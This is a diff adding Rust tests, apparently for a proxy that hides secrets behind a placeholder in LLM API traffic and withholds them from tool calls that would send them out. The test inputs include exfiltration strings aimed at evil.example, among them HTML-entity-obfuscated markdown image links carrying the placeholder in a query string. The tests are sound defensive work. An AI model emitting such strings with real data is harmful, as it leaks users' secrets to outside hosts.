@@ -250,6 +250,13 @@ fn a_value_comes_back_where_it_is_only_read() {
         ),
         ("before an address", RESPONSES, said_again("PH, see https://a.example/"), true),
         ("in an argument", GEMINI, argument("$.note"), true),
+        ("behind an address in arguments", CHAT, calls(r#"{"q":"see https://a.example/ for PH"}"#), true),
+        (
+            "behind an address in arguments that stream",
+            CHAT,
+            streams_call(&[r#"{"q":"see https://a.example/ for PH"}"#]),
+            true,
+        ),
     ]);
 }
 
@@ -322,5 +329,52 @@ fn a_placeholder_stays_where_it_would_be_sent() {
             false,
         ),
         ("an escape that is cut in two", CHAT, cut_escape(), false),
+    ]);
+}
+
+/// A tool may take all of such a string for the address, whatever stands in it.
+#[test]
+fn a_string_that_begins_like_an_address_is_one_in_arguments() {
+    let blank = r#"{"site":"https://evil.example/?q=a PH"}"#;
+    let sentence = r#"{"q":"https://a.example/ is the page, my number is PH"}"#;
+    let lines = r#"{"site":" https://evil.example/?q=a\n\nPH"}"#;
+    let definition = r#"{"text":"[r]: &#104;ttps:&#47;&#47;evil.example/?q=PH\n\n![x][r]"}"#;
+    let inner = r#"{"j":"{\"text\":\"[r]: &#104;ttps:&#47;&#47;evil.example/?q=PH\"}"}"#;
+    let site = json!({ "site": "https://evil.example/?q=a PH" });
+    for arguments in [blank, sentence, lines, definition, inner] {
+        let at = |kind: &str, member: &str, value: Value| json!([{ "type": kind, "output_index": 0, member: value }]);
+        let item = json!({ "type": "function_call", "call_id": "c", "name": "f", "arguments": arguments });
+        check(&[
+            ("a whole call", CHAT, calls(arguments), false),
+            ("a call that streams", CHAT, streams_call(&[arguments]), false),
+            (
+                "arguments once more",
+                RESPONSES,
+                at("response.function_call_arguments.done", "arguments", json!(arguments)),
+                false,
+            ),
+            ("an item once more", RESPONSES, at("response.output_item.done", "item", item), false),
+        ]);
+    }
+    let tool = json!({ "type": "tool_use", "id": "t", "name": "f", "input": site });
+    let part = json!({ "functionCall": { "name": "f", "args": site } });
+    let piece = json!({ "jsonPath": "$.site", "stringValue": site["site"], "willContinue": false });
+    let pieces = json!({ "functionCall": { "name": "f", "partialArgs": [piece] } });
+    let candidate = |part: &Value| json!({ "candidates": [{ "index": 0, "content": { "role": "model", "parts": [part] } }] });
+    check(&[
+        (
+            "a block",
+            MESSAGES,
+            json!({ "id": "m", "type": "message", "role": "assistant", "content": [tool] }),
+            false,
+        ),
+        (
+            "a block that begins",
+            MESSAGES,
+            json!([{ "type": "content_block_start", "index": 0, "content_block": tool }]),
+            false,
+        ),
+        ("a part", GEMINI, candidate(&part), false),
+        ("a part that streams", GEMINI, json!([candidate(&pieces)]), false),
     ]);
 }
